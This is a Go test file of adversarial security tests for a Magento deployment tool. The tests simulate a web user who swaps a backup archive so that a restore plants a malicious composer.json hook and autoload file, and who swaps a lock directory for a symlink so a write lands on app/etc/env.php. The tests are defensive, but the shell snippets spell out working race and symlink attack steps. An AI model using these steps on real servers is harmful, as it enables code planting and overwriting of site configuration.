package magento

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// R1: the web user (owns var/, hence var/backups) swaps var/backups while composer runs and
// plants an archive under the name of this apply's archive (prefix = hash of the root,
// timestamp, PID: all guessable). Composer then fails (a full disk the web user caused,
// a timeout, anything): the "restore" extracts the attacker's archive into the root.
func TestAdversarialRestoreExtractsSwappedArchive(t *testing.T) {
	root, e, p := shellRoot(t, `
root=$PWD
name=$(ls var/backups/data-migration-tool)   # the attacker guesses it: prefix + date + PID (ps)
ev=$(mktemp -d)
cp -a composer.json composer.lock "$ev"/ && mkdir -p "$ev/vendor/magento" && cp -a vendor/composer "$ev/vendor/" && cp -a vendor/magento/data-migration-tool "$ev/vendor/magento/"
printf '{"name":"evil/evil","scripts":{"post-autoload-dump":"id > /tmp/pwned"},"ATTACKER":1}\n' > "$ev/composer.json"
echo '<?php // ATTACKER code, loaded by every bin/magento run' > "$ev/vendor/composer/autoload_real.php"
# vendor/composer becomes a link into var/, which the web user keeps writing to afterwards
mv "$ev/vendor/composer" var/evil-composer && ln -s "$root/var/evil-composer" "$ev/vendor/composer"
# --- as the web user: only var/ (and what it makes there) is touched ---
mv var/backups var/backups.moved
mkdir -p var/backups/data-migration-tool
tar -czf "var/backups/data-migration-tool/$name" -C "$ev" composer.json composer.lock vendor/composer vendor/magento/data-migration-tool
chown -R nobody var/backups
# --- composer then fails after writing ---
echo '{}' > composer.json
echo "Killed"; exit 137`)
	if err := os.MkdirAll(filepath.Join(root, "var"), 0o775); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(filepath.Join(root, "var"), 65534, 65534); err != nil { // var/ is the web user's
		t.Fatal(err)
	}
	_, err := Change(context.Background(), &LocalRunner{}, e, p)
	var ce *ChangeError
	t.Logf("error: %v", err)
	b, _ := os.ReadFile(filepath.Join(root, "composer.json"))
	auto, _ := os.ReadFile(filepath.Join(root, "vendor/composer/autoload_real.php"))
	t.Logf("composer.json now: %s", b)
	t.Logf("vendor/composer/autoload_real.php now: %s", auto)
	if fi, err := os.Lstat(filepath.Join(root, "vendor/composer")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		dest, _ := os.Readlink(filepath.Join(root, "vendor/composer"))
		t.Logf("vendor/composer is now a link to %s (web-writable)", dest)
	}
	if errors.As(err, &ce) && ce.Restored && strings.Contains(string(b), "ATTACKER") && strings.Contains(string(auto), "ATTACKER") {
		t.Errorf("FINDING: the \"restore\" put the web user's composer.json and vendor/composer into the root, and says restored from %s", ce.Archive)
	}
}

// R2: the web user swaps the lock directory (it lies in var/, which it can write) after
// acquire and before the marker is written, with its own directory whose "changing" is a
// link: the apply writes the marker through the link (here: over app/etc/env.php).
func TestAdversarialMarkerWrittenThroughPlantedLink(t *testing.T) {
	root, e, p := shellRoot(t, "")
	if err := os.MkdirAll(filepath.Join(root, "var"), 0o775); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(filepath.Join(root, "var"), 65534, 65534); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(root, "app/etc/env.php")
	if err := os.MkdirAll(filepath.Dir(victim), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(victim, []byte("<?php return ['db' => 'secret'];\n"), 0o640); err != nil {
		t.Fatal(err)
	}
	shims := t.TempDir()
	lock := filepath.Join(root, "var", lockName)
	df, _ := exec.LookPath("df")
	// df runs in room(), after acquire: the attacker's moment (inotify on var/ sees the lock appear).
	writeShim(t, filepath.Join(shims, "df"), `
if [ ! -e `+shims+`/done ]; then : > `+shims+`/done
  mv '`+lock+`' '`+lock+`.stolen'; mkdir '`+lock+`'; ln -s '`+victim+`' '`+lock+`/changing'; chown -h -R nobody '`+lock+`'
fi
exec `+df+` "$@"`)
	res, err := Change(context.Background(), pathFirst{&LocalRunner{}, shims}, e, p)
	b, _ := os.ReadFile(victim)
	t.Logf("result %+v err %v", res, err)
	t.Logf("env.php now: %q", b)
	if !strings.Contains(string(b), "<?php") {
		t.Errorf("FINDING: the apply wrote its marker through the web user's link over app/etc/env.php")
	}
}
